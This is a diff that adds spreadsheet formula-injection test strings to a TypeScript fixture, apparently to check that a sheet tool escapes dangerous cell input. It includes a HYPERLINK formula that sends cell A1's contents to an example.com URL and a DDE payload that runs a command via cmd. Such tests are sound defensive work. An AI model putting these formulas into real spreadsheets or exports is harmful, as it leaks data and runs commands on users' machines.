@@ -35,6 +35,21 @@ export const trickyTexts = [
   "  =A1",
   "#N/A",
   "'x",
+  "'=1+1",
+  "\t=1+1",
+  "\u00a0=1+1",
+  "\u200b=1+1",
+  "\ufeff=1+1",
+  "＝1+1",
+  "＋1+1",
+  "－1+1",
+  "＠A1",
+  '=HYPERLINK("https://example.com/?"&A1)',
+  "=cmd|' /C calc'!A0",
+  "{=1+1}",
+  "1,5",
+  "31/01/2026",
+  "<b>bold</b>",
 ];
 
 export const setup: SheetPlan = {
